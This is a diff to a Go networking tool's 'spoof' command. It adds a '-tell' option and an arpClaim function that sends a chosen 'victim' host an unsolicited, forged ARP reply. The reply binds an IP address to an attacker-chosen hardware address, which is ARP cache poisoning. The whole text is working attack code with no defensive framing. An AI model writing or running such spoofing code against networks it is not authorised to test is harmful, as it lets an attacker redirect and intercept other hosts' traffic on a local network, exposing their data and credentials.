@@ -27,7 +27,8 @@ type spoofEvent struct {
 	Hardware string `json:"hardware"`
 }
 
-func declareSpoof(*flag.FlagSet) action {
+func declareSpoof(flags *flag.FlagSet) action {
+	tell := flags.String("tell", "", "only tell this `HARDWARE` address, once and unasked")
 	return func(ctx context.Context, positional []string, out *printer) (bool, error) {
 		if len(positional) != 2 {
 			return false, usageError(fmt.Sprintf("expected an address and a hardware address, got %d arguments", len(positional)))
@@ -40,7 +41,14 @@ func declareSpoof(*flag.FlagSet) action {
 		if err != nil || len(hardware) != 6 {
 			return false, usageError(fmt.Sprintf("%q is no hardware address", positional[1]))
 		}
-		return true, spoof(ctx, address, hardware, out)
+		if *tell == "" {
+			return true, spoof(ctx, address, hardware, out)
+		}
+		victim, err := net.ParseMAC(*tell)
+		if err != nil {
+			return false, usageError(err.Error())
+		}
+		return true, sendFrame(victim, arpEtherType, arpClaim(address, hardware, victim))
 	}
 }
 
@@ -107,4 +115,11 @@ func arpAnswer(frame []byte, address netip.Addr, hardware, own net.HardwareAddr)
 	copy(answer[28:32], address.AsSlice())
 	copy(answer[32:42], frame[22:32])
 	return answer
+}
+
+// arpClaim is an ARP packet that tells somebody who has the address, although nobody has asked.
+func arpClaim(address netip.Addr, hardware, victim net.HardwareAddr) []byte {
+	packet := []byte{0, 1, 8, 0, 6, 4, 0, arpReply}
+	packet = append(append(packet, hardware...), address.AsSlice()...)
+	return append(append(packet, victim...), address.AsSlice()...)
 }
